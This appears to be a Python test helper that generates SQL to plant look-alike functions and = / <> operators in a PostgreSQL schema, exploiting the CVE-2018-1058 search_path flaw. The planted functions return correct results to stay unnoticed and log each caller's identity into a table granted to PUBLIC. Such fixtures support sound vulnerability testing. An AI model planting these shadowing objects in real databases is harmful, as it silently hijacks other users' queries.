"""Functions and operators that fit a statement of ours better than PostgreSQL's own, as CVE-2018-1058 has them.

Each says the truth, so that nothing is noticed, and writes down who ran it.
"""

from typing import Any, LiteralString

from psycopg import sql

_FUNCTIONS: tuple[tuple[LiteralString, LiteralString, LiteralString, LiteralString], ...] = (
    ("lower", "a {type}", "text", "pg_catalog.lower(a::text)"),
    ("btrim", "a {type}, b text", "text", "pg_catalog.btrim(a::text, b)"),
    ("concat_ws", "a text, b {type}, c {type}", "text", "pg_catalog.concat_ws(a, b, c)"),
    ("left", "a {type}, b integer", "text", "pg_catalog.left(a::text, b)"),
    ("to_jsonb", "a {type}", "jsonb", "pg_catalog.to_jsonb(a::text)"),
    ("same", "a {type}, b {type}", "boolean", "a::text OPERATOR(pg_catalog.=) b::text"),
    ("other", "a {type}, b {type}", "boolean", "a::text OPERATOR(pg_catalog.<>) b::text"),
)
_RAN: LiteralString = """
    CREATE TABLE {schema}.ran (what text, who text DEFAULT current_user);
    GRANT ALL ON {schema}.ran TO PUBLIC;
"""
_FUNCTION: LiteralString = """
    CREATE FUNCTION {schema}.{name}({arguments}) RETURNS {returns} LANGUAGE plpgsql AS $$
    BEGIN INSERT INTO {schema}.ran (what) VALUES ({told}); RETURN {truth}; END $$;
"""
_OPERATORS: LiteralString = """
    CREATE OPERATOR {schema}.= (LEFTARG = {type}, RIGHTARG = {type}, FUNCTION = {schema}.same);
    CREATE OPERATOR {schema}.<> (LEFTARG = {type}, RIGHTARG = {type}, FUNCTION = {schema}.other);
"""


def planted(schema: str, type_: LiteralString) -> str:
    """The statements that plant them in this schema, for arguments of this type; to be run by whoever attacks."""
    where, plain = sql.Identifier(schema), sql.SQL(type_)
    parts: list[Any] = [sql.SQL(_RAN).format(schema=where)]
    for name, arguments, returns, truth in _FUNCTIONS:
        parts.append(
            sql.SQL(_FUNCTION).format(
                schema=where,
                name=sql.Identifier(name),
                arguments=sql.SQL(arguments).format(type=plain),
                returns=sql.SQL(returns),
                told=sql.Literal(f"{name}({type_})"),
                truth=sql.SQL(truth),
            )
        )
    parts.append(sql.SQL(_OPERATORS).format(schema=where, type=plain))
    return sql.Composed(parts).as_string()
